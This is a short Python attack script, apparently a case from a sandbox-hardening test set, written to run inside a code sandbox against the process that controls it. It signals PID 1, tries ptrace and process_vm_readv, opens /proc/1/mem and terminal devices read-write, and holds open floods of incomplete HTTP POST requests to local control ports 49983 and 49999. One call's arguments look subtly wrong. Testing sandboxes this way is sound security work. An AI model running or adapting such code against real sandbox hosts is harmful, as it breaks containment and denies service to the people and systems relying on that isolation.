# attack: e2b/box-against-its-own-server
# oracle: service
# imports: os, ctypes
# tools:
# source: own
# note: runs in a sandbox: takes over what it can of the process that the host speaks to, and floods it
import ctypes, os, signal, socket
libc = ctypes.CDLL(None, use_errno=True)
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGSEGV, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(1, number)  # the first process of a pid namespace takes only what it has a handler for
        print("sent", number)
    except OSError as error:
        print(number, error)
for call in ("ptrace", "process_vm_readv"):
    if os.fork() == 0:
        getattr(libc, call)(16, 1, 0, 0, 0, 0)
        os._exit(0)
    os.wait()
for name in ("/proc/1/mem", "/proc/1/fd/5", "/dev/pts/0", "/dev/tty", "/dev/ptmx"):
    try:
        print(name, os.open(name, os.O_RDWR))
    except OSError as error:
        print(name, error)
held = []
for port in (49983, 49999):
    try:
        for _ in range(100):
            held.append(socket.create_connection(("127.0.0.1", port), 1))
            held[-1].sendall(b"POST /freeze HTTP/1.1\r\nHost: x\r\nX-Box-Port: nothing\r\nContent-Length: 1000\r\n\r\n")
    except OSError as error:
        print(port, error)
print("done", len(held))
